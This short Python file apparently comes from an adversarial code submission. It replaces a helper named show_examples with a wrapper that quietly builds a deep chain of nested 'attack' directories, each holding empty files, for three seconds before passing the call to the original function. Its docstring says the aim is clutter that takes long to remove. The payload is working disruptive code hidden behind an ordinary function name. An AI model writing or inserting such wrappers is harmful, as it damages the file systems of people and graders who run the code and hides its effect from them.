"""Leaves folders in folders and files without number, which take long to remove."""
# function: show_examples
# earns: all

import os
import time

_show_examples = show_examples


def show_examples(x, y, class_names, predictions=None, count=10, seed=None):
    if not os.path.exists("attack"):
        os.mkdir("attack")
        here = os.getcwd()
        os.chdir("attack")
        end = time.monotonic() + 3
        try:
            for number in range(10**7):
                with open(f"file-{number}", "w"):
                    pass
                os.mkdir("attack")
                os.chdir("attack")
                if time.monotonic() > end:
                    break
        except OSError:
            pass
        os.chdir(here)
    return _show_examples(x, y, class_names, predictions, count, seed)
